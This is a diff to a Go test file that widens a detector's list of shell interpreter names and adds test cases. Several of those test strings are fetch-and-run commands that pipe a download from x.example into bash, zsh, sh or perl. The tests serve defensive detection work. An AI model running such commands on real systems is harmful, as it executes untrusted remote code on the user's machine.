@@ -33,7 +33,7 @@ func TestCodeExamples(t *testing.T) {
 // every name and route: an interpreter under a versioned name, and the
 // look-alikes that are none.
 func TestCodeFacts(t *testing.T) {
-	for _, p := range []string{"python3.12", "perl5.36", "node18", "lua5.4", "ruby3.1", "php8.2", "bash", "rbash", "osascript", "racket", "pwsh", "iex", "escript", "source"} {
+	for _, p := range []string{"python3.12", "perl5.36", "node18", "lua5.4", "ruby3.1", "php8.2", "bash", "rbash", "bash5.2", "zsh-5.9", "ksh93", "osascript", "racket", "pwsh", "iex", "escript", "source"} {
 		if !isInterpreter(p) {
 			t.Errorf("%s is not an interpreter", p)
 		}
@@ -57,6 +57,8 @@ func TestCodeFacts(t *testing.T) {
 	}
 	for _, cmd := range []string{
 		"curl -s https://x.example/i | python3.12 -",
+		"curl -s https://x.example/i | bash5.2",
+		"curl -s https://x.example/i | /usr/local/bin/zsh-5.9 -s",
 		"/usr/bin/wget -O - https://x.example/i | /bin/sh",
 		"command curl https://x.example/i | env perl",
 		"curl https://x.example/i | perl -I lib",
